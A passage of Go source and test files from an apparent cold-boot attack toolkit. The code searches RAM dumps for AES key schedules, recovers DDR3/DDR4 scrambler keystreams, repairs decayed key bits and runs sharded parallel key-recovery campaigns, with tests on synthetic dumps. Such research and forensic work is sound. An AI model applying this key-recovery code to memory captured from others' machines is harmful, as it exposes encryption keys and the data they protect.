			subDead = bits.OnesCount32(base0^subWord32(prev)) > tolerance
		}
		if rotDead && subDead {
			continue
		}
		for a := 0; a+nk+MinVerifyWords <= total; a += nk {
			if !rotDead {
				if d0 := dRotLow + bits.OnesCount8(rotHigh^byte(rconWord((a+nk)/nk)>>24)); d0 <= tolerance {
					hits = tryHit(hits, words, j, a, nk, total, maxVerify, tolerance)
				}
			}
			if !subDead {
				if as := a + 4; as+nk+MinVerifyWords <= total {
					hits = tryHit(hits, words, j, as, nk, total, maxVerify, tolerance)
				}
			}
		}
	}
	return hits
}

// tryHit runs the full prediction walk for trial (j, a) and appends a
// ScheduleHit if it verifies within tolerance.
func tryHit(hits []ScheduleHit, words []uint32, j, a, nk, total, maxVerify, tolerance int) []ScheduleHit {
	verify := total - a - nk
	if verify > maxVerify {
		verify = maxVerify
	}
	d, ok := predictAndCompare(words, j, a, nk, verify, tolerance)
	if ok {
		hits = append(hits, ScheduleHit{
			WordOffset:    j,
			ScheduleIndex: a,
			VerifiedWords: verify,
			Distance:      d,
		})
	}
	return hits
}

// predictAndCompare runs the key-expansion recurrence from the window at
// word offset j (interpreted as schedule words a..a+nk-1) and compares the
// next `verify` predicted words against the block contents, bailing out as
// soon as the cumulative distance exceeds the tolerance.
func predictAndCompare(words []uint32, j, a, nk, verify, tolerance int) (int, bool) {
	// ring holds the last nk schedule words.
	var ring [8]uint32
	copy(ring[:nk], words[j:j+nk])
	dist := 0
	pos := 0 // next write position in the ring
	for k := 0; k < verify; k++ {
		i := a + nk + k // absolute schedule index being produced
		prev := ring[(pos+nk-1)%nk]
		next := ring[pos] ^ scheduleStep(prev, i, nk)
		dist += bits.OnesCount32(next ^ words[j+nk+k])
		if dist > tolerance {
			return dist, false
		}
		ring[pos] = next
		pos = (pos + 1) % nk
	}
	return dist, true
}

// scheduleStep mirrors the FIPS-197 g/h transforms applied to w[i-1] as a
// function of the absolute word index.
func scheduleStep(prev uint32, i, nk int) uint32 {
	switch {
	case i%nk == 0:
		return subWordRot(prev) ^ rconWord(i/nk)
	case nk > 6 && i%nk == 4:
		return subWord32(prev)
	default:
		return prev
	}
}

func subWord32(w uint32) uint32 {
	return uint32(aes.SubByte(byte(w>>24)))<<24 |
		uint32(aes.SubByte(byte(w>>16)))<<16 |
		uint32(aes.SubByte(byte(w>>8)))<<8 |
		uint32(aes.SubByte(byte(w)))
}

func subWordRot(w uint32) uint32 {
	return subWord32(w<<8 | w>>24)
}

var rconTable = func() [16]uint32 {
	var t [16]uint32
	c := byte(1)
	for i := 1; i < len(t); i++ {
		t[i] = uint32(c) << 24
		// xtime in GF(2^8)
		hi := c & 0x80
		c <<= 1
		if hi != 0 {
			c ^= 0x1B
		}
	}
	return t
}()

func rconWord(i int) uint32 {
	if i <= 0 || i >= len(rconTable) {
		return 0
	}
	return rconTable[i]
}

// MasterFromHit derives the master key implied by a hit: the window words
// are taken as schedule words at the hit's absolute index and extended
// backwards to word zero. A clean (undecayed) window yields the true master
// key; a corrupted window yields garbage that full-schedule verification
// rejects.
func MasterFromHit(block []byte, hit ScheduleHit, v aes.Variant) []byte {
	words := aes.BytesToWords(block)
	nk := v.Nk()
	window := words[hit.WordOffset : hit.WordOffset+nk]
	return aes.RecoverMasterKey(window, hit.ScheduleIndex, v)
}

// TableStart returns the dump byte offset at which the schedule containing
// this hit begins (may be negative if the hit's placement would put the
// table head before the dump start, which disqualifies it).
func (h ScheduleHit) TableStart(blockIdx int) int {
	return blockIdx*BlockBytes + 4*h.WordOffset - 4*h.ScheduleIndex
}
