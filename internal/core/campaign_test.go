package core

import (
	"bytes"
	"context"
	"testing"

	"coldboot/internal/aes"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

func TestShardsCoverEverything(t *testing.T) {
	shards := Shards(100000, 8192, 8)
	covered := make([]bool, 100000)
	for _, sh := range shards {
		for b := sh.FirstBlock; b < sh.FirstBlock+sh.Blocks; b++ {
			covered[b] = true
		}
	}
	for b, ok := range covered {
		if !ok {
			t.Fatalf("block %d uncovered", b)
		}
	}
	// Adjacent shards overlap by the requested amount.
	if shards[1].FirstBlock != 8192 || shards[0].Blocks != 8192+8 {
		t.Errorf("unexpected sharding: %+v %+v", shards[0], shards[1])
	}
}

func TestShardsDegenerate(t *testing.T) {
	if got := Shards(100, 0, 4); len(got) != 1 || got[0].Blocks != 100 {
		t.Errorf("zero shard size: %+v", got)
	}
	if got := Shards(10, 100, 4); len(got) != 1 || got[0].Blocks != 10 {
		t.Errorf("oversized shard: %+v", got)
	}
}

func TestCampaignMatchesSingleAttack(t *testing.T) {
	master := testMaster(300, 32)
	const tableStart = 4096*64 + 96
	dump := buildAttackDump(t, 2<<20, 30, workload.LightSystem, master, tableStart)

	single, err := Attack(dump, Config{})
	if err != nil {
		t.Fatal(err)
	}
	var progressCalls int
	camp, err := RunCampaign(context.Background(), dump, CampaignConfig{
		ShardBlocks: 4096, // 256 KiB shards: the table straddles boundaries
		Parallel:    4,
		OnProgress: func(p Progress) {
			progressCalls++
			if p.TotalBlocks != len(dump)/64 {
				t.Errorf("bad progress total: %+v", p)
			}
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(camp.Keys) != len(single.Keys) {
		t.Fatalf("campaign found %d keys, single attack %d", len(camp.Keys), len(single.Keys))
	}
	if !bytes.Equal(camp.Keys[0].Master, master) {
		t.Error("campaign recovered wrong key")
	}
	if camp.Keys[0].TableStart != tableStart {
		t.Errorf("campaign table start %d, want %d", camp.Keys[0].TableStart, tableStart)
	}
	if progressCalls == 0 {
		t.Error("no progress reported")
	}
}

func TestCampaignTableStraddlingShardBoundary(t *testing.T) {
	// Put the schedule right across a shard boundary: the overlap region
	// must keep it visible to one shard in full.
	master := testMaster(301, 32)
	shardBlocks := 4096
	tableStart := shardBlocks*64 - 128 // straddles the first boundary
	dump := buildAttackDump(t, 2<<20, 31, workload.LightSystem, master, tableStart)
	camp, err := RunCampaign(context.Background(), dump, CampaignConfig{ShardBlocks: shardBlocks})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, k := range camp.Keys {
		if bytes.Equal(k.Master, master) {
			found = true
		}
	}
	if !found {
		t.Fatal("boundary-straddling key lost")
	}
}

func TestCampaignCancellation(t *testing.T) {
	dump := buildAttackDump(t, 1<<20, 32, workload.LightSystem, testMaster(302, 32), 4096*64)
	ctx, cancel := context.WithCancel(context.Background())
	cancel() // cancelled before the first shard
	res, err := RunCampaign(ctx, dump, CampaignConfig{ShardBlocks: 1024})
	if err == nil {
		t.Error("cancelled campaign reported success")
	}
	if res == nil {
		t.Fatal("cancelled campaign returned no partial result")
	}
	if res.PairsTested != 0 {
		t.Error("cancelled-before-start campaign scanned pairs")
	}
}

func TestCampaignRejectsUnalignedDump(t *testing.T) {
	if _, err := RunCampaign(context.Background(), make([]byte, 100), CampaignConfig{}); err == nil {
		t.Error("unaligned dump accepted")
	}
}

func TestMergeShardResultsDedup(t *testing.T) {
	k1 := FoundKey{Master: []byte("a"), TableStart: 1000, Score: 0.9}
	k1dup := FoundKey{Master: []byte("a"), TableStart: 1000, Score: 0.95}
	k2 := FoundKey{Master: []byte("b"), TableStart: 5000, Score: 0.8}
	out := MergeShardResults([]FoundKey{k1, k1dup, k2}, 240)
	if len(out) != 2 {
		t.Fatalf("merged to %d keys, want 2", len(out))
	}
	if out[0].Score != 0.95 {
		t.Error("merge did not keep the best-scoring duplicate")
	}
}

func TestCampaignXTSPair(t *testing.T) {
	m1 := testMaster(303, 32)
	m2 := testMaster(304, 32)
	plain := make([]byte, 2<<20)
	workload.Fill(plain, 33, workload.LightSystem)
	const tableStart = 4096 * 64
	copy(plain[tableStart:], aes.ExpandKeyBytes(m1))
	copy(plain[tableStart+240:], aes.ExpandKeyBytes(m2))
	s := scramble.NewSkylakeDDR4(1234)
	dump := make([]byte, len(plain))
	s.Scramble(dump, plain, 0)
	camp, err := RunCampaign(context.Background(), dump, CampaignConfig{ShardBlocks: 2048, Parallel: 8})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, k := range camp.Keys {
		got[string(k.Master)] = true
	}
	if !got[string(m1)] || !got[string(m2)] {
		t.Fatalf("XTS pair not recovered by campaign (%d keys)", len(camp.Keys))
	}
}
