package core

import (
	"bytes"
	"testing"

	"coldboot/internal/aes"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

// buildGroundScenario builds a dump with a key schedule, applies
// asymmetric decay (bits only flip toward a ground pattern) inside the
// schedule head window, and returns (dump, groundDump, master, tableStart).
func buildGroundScenario(t *testing.T, flipsInWindow int) (dump, groundDump, master []byte, tableStart int) {
	t.Helper()
	master = testMaster(400, 32)
	tableStart = 4096 * 64
	plain := make([]byte, 1<<20)
	workload.Fill(plain, 40, workload.LightSystem)
	copy(plain[tableStart:], aes.ExpandKeyBytes(master))
	s := scramble.NewSkylakeDDR4(4321)
	raw := make([]byte, len(plain)) // raw DIMM contents = scrambled data
	s.Scramble(raw, plain, 0)

	// Ground pattern: alternating 0x00/0xFF stripes, as in internal/dram.
	ground := make([]byte, len(raw))
	for i := range ground {
		if (i/128)%2 == 1 {
			ground[i] = 0xFF
		}
	}
	// Asymmetric decay inside the schedule head window (first 32 bytes):
	// flip raw bits TOWARD ground only.
	flipped := 0
	for bit := tableStart * 8; flipped < flipsInWindow && bit < (tableStart+32)*8; bit += 29 {
		i, m := bit/8, byte(1)<<uint(bit%8)
		if raw[i]&m != ground[i]&m {
			raw[i] ^= m
			flipped++
		}
	}
	if flipped != flipsInWindow {
		t.Fatalf("could only place %d/%d asymmetric flips", flipped, flipsInWindow)
	}

	// The attacker's machine adds its own keystream to BOTH captures.
	k2 := scramble.NewSkylakeDDR4(8765)
	dump = make([]byte, len(raw))
	k2.Scramble(dump, raw, 0)
	groundDump = make([]byte, len(ground))
	k2.Scramble(groundDump, ground, 0)
	return dump, groundDump, master, tableStart
}

func TestSuspectMaskCancelsKeystream(t *testing.T) {
	dump, groundDump, _, tableStart := buildGroundScenario(t, 0)
	// Where dump == groundDump, the underlying raw bit equals ground —
	// independent of the attacker keystream. About half of all bits of a
	// data block should be suspects.
	mask := SuspectMask(dump, groundDump, tableStart/64+10)
	ones := 0
	for _, b := range mask {
		for x := b; x != 0; x &= x - 1 {
			ones++
		}
	}
	if ones < 150 || ones > 360 {
		t.Errorf("suspect density %d/512 implausible", ones)
	}
}

func TestGroundRepairDirect(t *testing.T) {
	// Corrupt the schedule head window with 2 asymmetric flips, take the
	// hit anchored at the SECOND block (whose verify region is clean, so
	// it is detected), and repair the head... rather: anchor at the head
	// block itself with flips in non-prediction-feeding words, then repair.
	dump, groundDump, master, tableStart := buildGroundScenario(t, 2)
	mine, err := MineKeys(dump, MineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	dir := ResidueDirectory(mine, mine.InferStride())
	blockIdx := tableStart / 64
	key := dir(blockIdx)
	if len(key) == 0 {
		t.Skip("head block's address class not mined under this seed")
	}
	descrambled := make([]byte, 64)
	for i := range descrambled {
		descrambled[i] = dump[blockIdx*64+i] ^ key[0][i]
	}
	repaired := false
	for _, hit := range AESLitmus(descrambled, aes.AES256, DefaultAESTolerance) {
		if windowDegenerate(descrambled, hit, 8) {
			continue
		}
		m, score := RepairWindowGround(dump, groundDump, dir, descrambled, blockIdx, hit, aes.AES256, 3, 0.8)
		if score >= 0.8 && bytes.Equal(m, master) {
			repaired = true
			break
		}
	}
	if !repaired {
		t.Fatal("ground-state repair did not recover the master from the corrupted window")
	}
}

func TestGroundRepairViaAttack(t *testing.T) {
	dump, groundDump, master, _ := buildGroundScenario(t, 2)
	res, err := Attack(dump, Config{GroundDump: groundDump})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, k := range res.Keys {
		if bytes.Equal(k.Master, master) {
			found = true
		}
	}
	if !found {
		t.Fatal("attack with ground profile did not recover the key")
	}
}

func TestGroundDumpLengthValidated(t *testing.T) {
	dump := make([]byte, 1024)
	if _, err := Attack(dump, Config{GroundDump: make([]byte, 64)}); err == nil {
		t.Error("mismatched ground dump accepted")
	}
}
