package core

import (
	"bytes"
	"testing"

	"coldboot/internal/bitutil"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

func buildDDR3Dump(t testing.TB, size int, seed int64, p workload.Profile) ([]byte, []byte, *scramble.DDR3) {
	t.Helper()
	plain := make([]byte, size)
	if err := workload.Fill(plain, seed, p); err != nil {
		t.Fatal(err)
	}
	s := scramble.NewDDR3(uint64(seed) + 5)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)
	return dump, plain, s
}

func TestMineDDR3KeysByFrequency(t *testing.T) {
	dump, _, s := buildDDR3Dump(t, 1<<20, 1, workload.LightSystem)
	keys, err := MineDDR3Keys(dump)
	if err != nil {
		t.Fatal(err)
	}
	for idx := 0; idx < DDR3KeyCount; idx++ {
		want := s.KeyAt(uint64(idx) * BlockBytes)
		if !bytes.Equal(keys[idx], want) {
			t.Fatalf("class %d key wrong", idx)
		}
	}
}

func TestDescrambleDDR3RecoversPlaintext(t *testing.T) {
	dump, plain, _ := buildDDR3Dump(t, 1<<20, 2, workload.LightSystem)
	keys, err := MineDDR3Keys(dump)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DescrambleDDR3(dump, keys)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, plain) {
		t.Error("descrambled dump differs from plaintext")
	}
}

func TestUniversalRebootKey(t *testing.T) {
	// Scramble the same memory under two boots, XOR the dumps: one
	// universal key must emerge, equal to E(s1)^E(s2) for every class.
	plain := make([]byte, 1<<20)
	workload.Fill(plain, 3, workload.LoadedSystem)
	s1 := scramble.NewDDR3(0x1010)
	s2 := scramble.NewDDR3(0x2020)
	d1 := make([]byte, len(plain))
	d2 := make([]byte, len(plain))
	s1.Scramble(d1, plain, 0)
	s2.Scramble(d2, plain, 0)
	x := bitutil.XORNew(d1, d2)
	uni, err := UniversalRebootKey(x)
	if err != nil {
		t.Fatal(err)
	}
	want := bitutil.XORNew(s1.KeyAt(0), s2.KeyAt(0))
	if !bytes.Equal(uni, want) {
		t.Error("universal key differs from keystream XOR")
	}
	// And it must be the same across all 16 classes.
	for idx := uint64(1); idx < 16; idx++ {
		w := bitutil.XORNew(s1.KeyAt(idx*64), s2.KeyAt(idx*64))
		if !bytes.Equal(uni, w) {
			t.Fatalf("class %d breaks the universal key property", idx)
		}
	}
}

func TestUniversalKeyDoesNotExistOnDDR4(t *testing.T) {
	// Negative control: applying the DDR3 reboot attack to Skylake DDR4
	// dumps must NOT descramble the memory (Figure 3e).
	plain := make([]byte, 1<<20)
	workload.Fill(plain, 4, workload.LoadedSystem)
	s1 := scramble.NewSkylakeDDR4(0x1010)
	s2 := scramble.NewSkylakeDDR4(0x2020)
	d1 := make([]byte, len(plain))
	d2 := make([]byte, len(plain))
	s1.Scramble(d1, plain, 0)
	s2.Scramble(d2, plain, 0)
	x := bitutil.XORNew(d1, d2)
	uni, err := UniversalRebootKey(x)
	if err != nil {
		t.Fatal(err)
	}
	// Descrambling the XOR image with the "universal key" must leave most
	// blocks wrong: count blocks that become zero (they would all be zero
	// if the DDR3 property held on unchanged memory).
	fixed := 0
	for b := 0; b < len(x)/BlockBytes; b++ {
		if bytes.Equal(x[b*BlockBytes:(b+1)*BlockBytes], uni) {
			fixed++
		}
	}
	if frac := float64(fixed) / float64(len(x)/BlockBytes); frac > 0.01 {
		t.Errorf("DDR3 reboot attack explains %f of DDR4 blocks; should be near zero", frac)
	}
}

func TestMineDDR3KeysErrors(t *testing.T) {
	if _, err := MineDDR3Keys(make([]byte, 100)); err == nil {
		t.Error("unaligned dump accepted")
	}
}

func TestDescrambleDDR3Errors(t *testing.T) {
	var keys [DDR3KeyCount][]byte
	if _, err := DescrambleDDR3(make([]byte, 1024), keys); err == nil {
		t.Error("nil keys accepted")
	}
	for i := range keys {
		keys[i] = make([]byte, 64)
	}
	if _, err := DescrambleDDR3(make([]byte, 100), keys); err == nil {
		t.Error("unaligned dump accepted")
	}
}

func TestUniversalRebootKeyErrors(t *testing.T) {
	if _, err := UniversalRebootKey(nil); err == nil {
		t.Error("empty dump accepted")
	}
}

func BenchmarkDDR3FrequencyAttack(b *testing.B) {
	dump, _, _ := buildDDR3Dump(b, 1<<20, 5, workload.LightSystem)
	b.SetBytes(int64(len(dump)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := MineDDR3Keys(dump); err != nil {
			b.Fatal(err)
		}
	}
}
