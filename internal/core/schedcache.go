package core

import (
	"sync"

	"coldboot/internal/aes"
	"coldboot/internal/secret"
)

// defaultScheduleCacheEntries bounds a zero-configured cache. A dump yields
// at most a few thousand distinct candidate masters (anchors plus shift
// aliases); 4096 entries covers real workloads while capping worst-case
// memory at ~1 MiB of schedule bytes.
const defaultScheduleCacheEntries = 4096

// ScheduleCache memoizes expanded AES key schedules by master-key bytes.
// The hunt re-sights the same candidate master once per anchor window (a
// 240-byte AES-256 table spans four blocks, each contributing many litmus
// hits), and a campaign re-sights it once per shard; expanding the schedule
// once and sharing the bytes removes the per-candidate ExpandKeyBytes from
// the verify path entirely.
//
// Returned schedules are READ-ONLY and shared between callers — the same
// contract as Scrambler.KeyAt and the ResidueDirectory tables. A nil
// *ScheduleCache is valid and simply expands on every call.
//
// The cache is safe for concurrent use. It is bounded: when full, the next
// insert clears it wholesale (the working set is tiny and rebuilt in a few
// expansions, so eviction bookkeeping would cost more than it saves).
type ScheduleCache struct {
	mu  sync.RWMutex
	max int
	m   map[string][]byte // guarded by mu
}

// NewScheduleCache returns a cache bounded to maxEntries schedules
// (maxEntries <= 0 selects the default bound).
func NewScheduleCache(maxEntries int) *ScheduleCache {
	if maxEntries <= 0 {
		maxEntries = defaultScheduleCacheEntries
	}
	return &ScheduleCache{max: maxEntries, m: make(map[string][]byte)}
}

// Schedule returns the expanded schedule bytes for master, computing and
// caching them on first sight. The returned slice is shared: callers must
// not modify it.
func (c *ScheduleCache) Schedule(master []byte) []byte {
	if c == nil {
		return aes.ExpandKeyBytes(master)
	}
	c.mu.RLock()
	s, ok := c.m[string(master)] // direct index: no key allocation on lookup
	c.mu.RUnlock()
	if ok {
		return s
	}
	sched := aes.ExpandKeyBytes(master)
	c.mu.Lock()
	if cur, ok := c.m[string(master)]; ok {
		c.mu.Unlock()
		return cur
	}
	if len(c.m) >= c.max {
		// Drop, don't zero: concurrent readers still alias the slices the
		// cache handed out, so only the end-of-run Wipe — which runs after
		// every worker has joined — may touch their bytes.
		clear(c.m)
	}
	c.m[string(master)] = sched
	c.mu.Unlock()
	return sched
}

// Wipe zeroes every cached schedule and empties the cache. Owners call it
// when an attack run retires its private cache: expanded schedules are key
// material (the master is its first words), so dropping the map without
// zeroing would leave recoverable copies on the heap.
func (c *ScheduleCache) Wipe() {
	if c == nil {
		return
	}
	c.mu.Lock()
	c.wipeLocked()
	c.mu.Unlock()
}

func (c *ScheduleCache) wipeLocked() {
	for _, s := range c.m {
		secret.Wipe(s)
	}
	clear(c.m)
}

// Lookup returns the cached schedule for master, or (nil, false). Unlike
// Schedule it never computes or stores, so a miss costs nothing — the hunt
// uses it on the candidate path, where the overwhelming majority of masters
// are garbage derived from application data and will never be seen again:
// caching those would evict the real working set and pay an allocation per
// candidate.
func (c *ScheduleCache) Lookup(master []byte) ([]byte, bool) {
	if c == nil {
		return nil, false
	}
	c.mu.RLock()
	s, ok := c.m[string(master)] // direct index: no key allocation on lookup
	c.mu.RUnlock()
	return s, ok
}

// Insert caches a copy of an already-expanded schedule for master. Callers
// use it to promote a candidate into the cache once it has proven itself
// (verification passed), typically after expanding into scratch via Lookup's
// miss path.
func (c *ScheduleCache) Insert(master, sched []byte) {
	if c == nil {
		return
	}
	c.mu.Lock()
	if _, ok := c.m[string(master)]; !ok {
		if len(c.m) >= c.max {
			// Same as Schedule's overflow path: outstanding Lookup results
			// alias these slices, so overflow drops references and leaves
			// zeroing to the post-join Wipe.
			clear(c.m)
		}
		//lint:ignore keyflow cache needs a comparable key; cached schedules are zeroed by Wipe
		c.m[string(master)] = append([]byte{}, sched...)
	}
	c.mu.Unlock()
}

// Len reports the number of cached schedules (for tests and metrics).
func (c *ScheduleCache) Len() int {
	if c == nil {
		return 0
	}
	c.mu.RLock()
	defer c.mu.RUnlock()
	return len(c.m)
}
