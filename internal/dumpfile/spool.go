package dumpfile

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
)

// SinkError marks a Spool failure of the destination writer (disk full,
// closed file), as opposed to a malformed or truncated container arriving
// from the source. Services use the distinction to answer 500 instead of
// blaming the client with a 400.
type SinkError struct{ Err error }

func (e *SinkError) Error() string { return "dumpfile: writing spooled container: " + e.Err.Error() }

func (e *SinkError) Unwrap() error { return e.Err }

// Spool streams one dump container from src to dst, validating eagerly as
// it copies: the magic and length fields are checked before the (possibly
// multi-GB) image transfer starts, the metadata JSON must parse, the body
// must be exactly the promised length, and nothing may trail the CRC
// footer. The image itself is copied without buffering more than one chunk
// — uploads analyze from disk, never from memory. Returns the parsed
// metadata and the image length; the CRC itself is NOT verified here (that
// is the analysis job's streaming VerifyChecksum step).
func Spool(dst io.Writer, src io.Reader) (Metadata, int64, error) {
	var meta Metadata
	var fixed [len(Magic) + 12]byte
	if _, err := io.ReadFull(src, fixed[:]); err != nil {
		return meta, 0, fmt.Errorf("dumpfile: reading container header: %w", err)
	}
	if string(fixed[:len(Magic)]) != Magic {
		return meta, 0, fmt.Errorf("dumpfile: bad magic %q", fixed[:len(Magic)])
	}
	headerLen := binary.LittleEndian.Uint32(fixed[len(Magic) : len(Magic)+4])
	dataLen := binary.LittleEndian.Uint64(fixed[len(Magic)+4 : len(Magic)+12])
	if headerLen > 1<<20 {
		return meta, 0, fmt.Errorf("dumpfile: implausible header length %d", headerLen)
	}
	if dataLen > 1<<40 {
		return meta, 0, fmt.Errorf("dumpfile: implausible dump length %d", dataLen)
	}
	header := make([]byte, headerLen)
	if _, err := io.ReadFull(src, header); err != nil {
		return meta, 0, fmt.Errorf("dumpfile: reading metadata: %w", err)
	}
	if err := json.Unmarshal(header, &meta); err != nil {
		return meta, 0, fmt.Errorf("dumpfile: decoding metadata: %w", err)
	}
	if _, err := dst.Write(fixed[:]); err != nil {
		return meta, 0, &SinkError{err}
	}
	if _, err := dst.Write(header); err != nil {
		return meta, 0, &SinkError{err}
	}
	// Image + 4-byte CRC trailer. io.CopyN folds read and write failures
	// into one error; a tracking writer keeps them apart so source errors
	// (truncation, an http.MaxBytesReader limit) blame the upload.
	want := int64(dataLen) + 4
	tw := &trackingWriter{w: dst}
	n, err := io.CopyN(tw, src, want)
	if err != nil {
		if tw.err != nil {
			return meta, 0, &SinkError{tw.err}
		}
		if err == io.EOF || err == io.ErrUnexpectedEOF {
			return meta, 0, fmt.Errorf("dumpfile: container truncated: image+trailer stopped %d bytes short", want-n)
		}
		return meta, 0, fmt.Errorf("dumpfile: reading image: %w", err)
	}
	// The container is self-delimiting; trailing bytes mean a corrupt or
	// concatenated upload.
	// Readers may return the final byte together with io.EOF, so trailing
	// data is detected by the byte count, not the error.
	var one [1]byte
	n, err = readAtLeastOne(src, one[:])
	switch {
	case n > 0:
		return meta, 0, fmt.Errorf("dumpfile: %d-byte container followed by trailing data", int64(len(fixed))+int64(headerLen)+want)
	case err != io.EOF:
		return meta, 0, fmt.Errorf("dumpfile: reading container tail: %w", err)
	}
	return meta, int64(dataLen), nil
}

// readAtLeastOne reads until it has one byte, a real error, or io.EOF
// (skipping spurious (0, nil) reads, which io.Reader permits).
func readAtLeastOne(r io.Reader, buf []byte) (int64, error) {
	for {
		n, err := r.Read(buf)
		if n > 0 || err != nil {
			return int64(n), err
		}
	}
}

// trackingWriter remembers the first error its underlying writer returned,
// so Spool can attribute a failed copy to the sink rather than the source.
type trackingWriter struct {
	w   io.Writer
	err error
}

func (t *trackingWriter) Write(p []byte) (int, error) {
	n, err := t.w.Write(p)
	if err != nil && t.err == nil {
		t.err = err
	}
	return n, err
}
