package dumpfile

import (
	"bytes"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func spoolFixture(t *testing.T, imageBytes int) ([]byte, Metadata) {
	t.Helper()
	meta := Metadata{CPU: "spool rig", Channels: 2, ScramblerOn: true}
	var buf bytes.Buffer
	if err := Write(&buf, meta, bytes.Repeat([]byte{0x5A}, imageBytes)); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), meta
}

func TestSpoolRoundTrip(t *testing.T) {
	container, wantMeta := spoolFixture(t, 4096)
	var out bytes.Buffer
	meta, n, err := Spool(&out, bytes.NewReader(container))
	if err != nil {
		t.Fatal(err)
	}
	if n != 4096 {
		t.Errorf("image length %d, want 4096", n)
	}
	if meta != wantMeta {
		t.Errorf("metadata %+v, want %+v", meta, wantMeta)
	}
	if !bytes.Equal(out.Bytes(), container) {
		t.Error("spooled bytes differ from the source container")
	}
	// The spooled file opens and verifies like any other container.
	f, err := NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.VerifyChecksum(); err != nil {
		t.Fatal(err)
	}
}

func TestSpoolRejectsBadMagic(t *testing.T) {
	container, _ := spoolFixture(t, 512)
	copy(container, "NOTADUMP")
	if _, _, err := Spool(io.Discard, bytes.NewReader(container)); err == nil || !strings.Contains(err.Error(), "magic") {
		t.Fatalf("err = %v", err)
	}
}

func TestSpoolRejectsTruncation(t *testing.T) {
	container, _ := spoolFixture(t, 512)
	for _, cut := range []int{len(container) - 1, len(container) - 100, 30, 10} {
		if _, _, err := Spool(io.Discard, bytes.NewReader(container[:cut])); err == nil {
			t.Errorf("truncation at %d not detected", cut)
		}
	}
}

func TestSpoolRejectsTrailingData(t *testing.T) {
	container, _ := spoolFixture(t, 512)
	grown := append(append([]byte(nil), container...), 0xAA)
	_, _, err := Spool(io.Discard, bytes.NewReader(grown))
	if err == nil || !strings.Contains(err.Error(), "trailing") {
		t.Fatalf("err = %v", err)
	}
}

// TestSpoolTrailingDetectionOverHTTP pins the regression where an HTTP
// body returning its final byte together with io.EOF masked trailing data.
func TestSpoolTrailingDetectionOverHTTP(t *testing.T) {
	container, _ := spoolFixture(t, 512)
	grown := append(append([]byte(nil), container...), 0xAA)
	errCh := make(chan error, 1)
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _, err := Spool(io.Discard, r.Body)
		errCh <- err
	}))
	defer ts.Close()
	resp, err := http.Post(ts.URL, "application/octet-stream", bytes.NewReader(grown))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if err := <-errCh; err == nil || !strings.Contains(err.Error(), "trailing") {
		t.Fatalf("err = %v", err)
	}
}

func TestSpoolSinkErrorIsAttributed(t *testing.T) {
	container, _ := spoolFixture(t, 4096)
	boom := errors.New("disk full")
	_, _, err := Spool(failingWriter{after: 100, err: boom}, bytes.NewReader(container))
	var sink *SinkError
	if !errors.As(err, &sink) {
		t.Fatalf("err = %v, want SinkError", err)
	}
	if !errors.Is(err, boom) {
		t.Errorf("sink error does not unwrap to the cause: %v", err)
	}
}

func TestSpoolSourceErrorIsNotSinkError(t *testing.T) {
	container, _ := spoolFixture(t, 4096)
	// A reader failing mid-image must not be blamed on the sink.
	src := io.MultiReader(bytes.NewReader(container[:len(container)-200]), failingReader{})
	_, _, err := Spool(io.Discard, src)
	if err == nil {
		t.Fatal("no error")
	}
	var sink *SinkError
	if errors.As(err, &sink) {
		t.Fatalf("source failure classified as sink error: %v", err)
	}
}

type failingWriter struct {
	after int
	err   error
}

func (w failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.after {
		return w.after, w.err
	}
	return len(p), nil
}

type failingReader struct{}

func (failingReader) Read([]byte) (int, error) { return 0, errors.New("wire cut") }
