package dumpfile

import (
	"bytes"
	"testing"
)

// FuzzRead: the reader consumes files from untrusted storage and must
// reject anything malformed without panicking.
func FuzzRead(f *testing.F) {
	var good bytes.Buffer
	Write(&good, Metadata{CPU: "x"}, []byte("payload"))
	f.Add(good.Bytes())
	f.Add([]byte(Magic))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, raw []byte) {
		meta, data, err := Read(bytes.NewReader(raw))
		if err == nil {
			// Anything accepted must round-trip identically.
			var buf bytes.Buffer
			if werr := Write(&buf, meta, data); werr != nil {
				t.Fatal(werr)
			}
		}
	})
}
