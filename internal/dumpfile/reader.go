package dumpfile

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"sync"
)

// File provides random access to a dump container without loading the
// image: the magic, lengths, and JSON metadata are parsed eagerly (a few
// hundred bytes), while the image itself stays on disk behind an
// io.ReaderAt and the CRC trailer is verified lazily — VerifyChecksum
// streams the image once on first call, so a multi-GB capture can be
// opened, windowed, and fed to the attack campaign in constant memory.
type File struct {
	meta    Metadata
	r       io.ReaderAt
	dataOff int64
	dataLen int64
	wantCRC uint32

	closer io.Closer

	mu       sync.Mutex
	verified bool
}

// Open opens the dump container at path for streaming access. The header
// is validated immediately; call VerifyChecksum to (lazily) validate the
// image bytes, and Close when done.
func Open(path string) (*File, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	df, err := NewReader(f, st.Size())
	if err != nil {
		f.Close()
		return nil, err
	}
	df.closer = f
	return df, nil
}

// NewReader opens a dump container held by any io.ReaderAt of totalSize
// bytes (an *os.File, a bytes.Reader over an in-memory container, an HTTP
// range reader...).
func NewReader(r io.ReaderAt, totalSize int64) (*File, error) {
	var fixed [len(Magic) + 12]byte
	if totalSize < int64(len(fixed)) {
